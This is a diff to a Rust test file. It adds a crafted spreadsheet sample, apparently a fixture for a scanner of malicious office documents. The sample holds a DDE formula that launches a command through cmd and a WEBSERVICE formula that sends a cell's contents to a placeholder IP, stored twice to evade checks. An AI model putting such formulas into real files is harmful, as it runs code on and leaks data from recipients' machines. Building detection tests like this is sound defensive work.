@@ -183,6 +183,21 @@ fn packages() -> Vec<Sample> {
             },
         },
         Sample {
+            id: "xd12",
+            file_name: "単価表.xlsx",
+            about: "formulas that start a program and that send cells to an address, in a sheet stored twice with other content",
+            make: || {
+                let sheet = |row: &str| {
+                    format!(
+                        "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row>{row}</row>\
+                         </sheetData></worksheet>"
+                    )
+                };
+                let calls = "<c r=\"A1\"><f>cmd|'/c harmless-none.exe'!A1</f></c><c r=\"B1\"><f>_xlfn.WEBSERVICE(\"http://192.0.2.30/?\"&amp;C1)</f></c>";
+                Package::xlsx("品名\t単価").part("xl/Worksheets/Sheet1.xml", "", sheet(calls)).build()
+            },
+        },
+        Sample {
             id: "xd11",
             file_name: "案内状.docx",
             about: "a DDE command in a footer that no relationship leads to, put together of a document variable and a bookmark",
